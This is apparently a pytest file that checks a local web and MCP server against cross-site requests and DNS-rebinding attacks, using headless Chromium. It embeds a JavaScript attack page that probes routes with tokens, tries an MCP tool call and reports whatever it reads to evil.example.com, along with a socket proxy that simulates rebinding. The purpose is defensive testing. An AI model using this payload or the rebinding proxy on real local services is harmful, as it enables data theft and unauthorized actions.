"""Pages of other sites in a real Chromium: they read nothing of the server and change nothing, on every route."""

from __future__ import annotations

import json
import shutil
import socket
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from session_continuity.web import access
from session_continuity.web.tokens import TokenFile

from .conftest import Intake, Residents, Running, record, wait_until

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed: apt-get install chromium")

ATTACK = """<script>
const tries = [];
const body = %(body)s, token = %(token)s;
for (const base of %(bases)s)
  for (const path of ['/', '/healthz', '/capture', '/mcp', '/.well-known/oauth-protected-resource/mcp',
                      '/no/such'])
    for (const mode of ['cors', 'no-cors', 'same-origin'])
      for (const [method, type] of [['GET'], ['POST', 'application/json'], ['POST', 'text/plain'],
                                    ['PUT'], ['DELETE']]) {
        const headers = {};
        if (type) headers['Content-Type'] = type;
        if (mode != 'no-cors') headers.Authorization = 'Bearer ' + token;
        tries.push({base, path, mode, method, headers, type});
      }
(async () => {
  const read = [];
  for (const t of tries) {
    try {
      const answer = await fetch(t.base + t.path, {method: t.method, mode: t.mode, headers: t.headers,
        body: t.method == 'POST' ? body[t.path] || '{}' : undefined});
      const text = await answer.text();
      if (answer.ok && text) read.push([t.base, t.path, t.mode, t.method, text.slice(0, 200)]);
    } catch (refused) {}
  }
  await fetch(%(report)s, {method: 'POST', mode: 'no-cors', body: JSON.stringify({tried: tries.length, read})});
})();
</script>"""


class Site:
    """A hostile site: serves its page under any name, and hears what the page could read."""

    def __init__(self) -> None:
        self.page = ""
        self.report: dict[str, Any] | None = None
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self._answer(site.page.encode())

            def do_POST(self) -> None:
                site.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                self._answer(b"")

            def _answer(self, content: bytes) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(content)))
                self.end_headers()
                self.wfile.write(content)

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]


@pytest.fixture
def site() -> Iterator[Site]:
    found = Site()
    thread = threading.Thread(target=found.server.serve_forever, daemon=True)
    thread.start()
    yield found
    found.server.shutdown()
    found.server.server_close()


@contextmanager
def chromium(folder: Path, url: str) -> Iterator[None]:
    """Opens the page; every name of example.com is this machine."""
    assert CHROMIUM
    browser = subprocess.Popen(
        [
            CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
            "--disable-background-networking", "--host-resolver-rules=MAP *.example.com 127.0.0.1",
            f"--user-data-dir={folder}", "--remote-debugging-port=0", url,
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )  # fmt: skip
    try:
        yield
    finally:
        browser.terminate()
        browser.wait(10)


def bodies() -> dict[str, str]:
    call = {"name": "register_session", "arguments": {"project": "stolen"}}
    return {
        "/capture": json.dumps({"records": [record(1)]}),
        "/mcp": json.dumps({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": call}),
    }


class Rebinding:
    """The port under which a name leads to the hostile site until its page is there, and from then on to us."""

    def __init__(self, site: int, server: int) -> None:
        self._site, self._server = site, server
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        self._listener.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                threading.Thread(target=self._join, args=(self._listener.accept()[0],), daemon=True).start()

    def _join(self, client: socket.socket) -> None:
        with suppress(OSError), client:
            first = client.recv(65_536)
            page = first.startswith(b"GET /page ")
            with socket.create_connection(("127.0.0.1", self._site if page else self._server)) as there:
                there.sendall(first.replace(b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n", 1) if page else first)
                threading.Thread(target=self._pass, args=(client, there), daemon=True).start()
                self._pass(there, client)

    @staticmethod
    def _pass(source: socket.socket, sink: socket.socket) -> None:
        with suppress(OSError):
            while part := source.recv(65_536):
                sink.sendall(part)


def attacked(site: Site, folder: Path, address: str, bases: list[str], token: str) -> dict[str, Any]:
    """What the page at that address could read of the bases."""
    site.report = None
    site.page = ATTACK % {
        "body": json.dumps(bodies()),
        "token": json.dumps(token),
        "bases": json.dumps(bases),
        "report": json.dumps(f"http://evil.example.com:{site.port}/report"),
    }
    with chromium(folder, address):
        wait_until(lambda: site.report is not None, 60)
    assert site.report is not None
    assert site.report["tried"] == 90 * len(bases)
    return site.report


def rebound(site: Site, folder: Path, url: str, token: str) -> dict[str, Any]:
    """What a page reads whose very origin leads to us by now."""
    rebinding = Rebinding(site.port, urlsplit(url).port or 0)
    try:
        return attacked(site, folder, f"http://rebound.example.com:{rebinding.port}/page", [""], token)
    finally:
        rebinding.close()


@pytest.fixture
def running(residents: Residents, database: str) -> Running:
    (residents.folder / "home").mkdir(mode=0o700)
    (residents.folder / "home" / "settings.toml").write_text(
        'oauth_issuer = "https://login.example/"\noauth_audience = "https://build.example/mcp"\n'
        'oauth_jwks = "https://login.example/keys"\n'
    )
    return residents.serve(database)


def test_a_page_of_another_site_reads_and_changes_nothing_even_with_a_token(
    running: Running, site: Site, tmp_path: Path, connection: Any
) -> None:
    """The token shows that Host and Origin alone hold: a browser has none."""
    token, _ = TokenFile(running.home).create(["write", "capture"])
    port = urlsplit(running.url).port
    bases = [running.url, f"http://localhost:{port}", f"http://other.example.com:{port}"]
    report = attacked(site, tmp_path / "browser", f"http://evil.example.com:{site.port}/", bases, token)
    assert report["read"] == []
    assert connection.execute("SELECT count(*) FROM supervisor_sessions").fetchone() == (0,)
    assert running.spool.names() == []


def test_a_page_whose_name_was_rebound_to_us_reads_and_changes_nothing_even_with_a_token(
    running: Running, site: Site, tmp_path: Path, connection: Any
) -> None:
    token, _ = TokenFile(running.home).create(["write", "capture"])
    assert rebound(site, tmp_path / "browser", running.url, token)["read"] == []
    assert connection.execute("SELECT count(*) FROM supervisor_sessions").fetchone() == (0,)
    assert running.spool.names() == []


def test_without_the_check_of_the_host_such_a_page_reads_and_changes(
    intake: Intake, site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control: the attack is real."""
    monkeypatch.setattr(access.Access, "admits", lambda *_: True)
    read = rebound(site, tmp_path / "browser", intake.url, intake.token)["read"]
    assert {path for _, path, _, _, _ in read} >= {"/healthz", "/capture"}
    assert len(intake.spool.names()) == 1
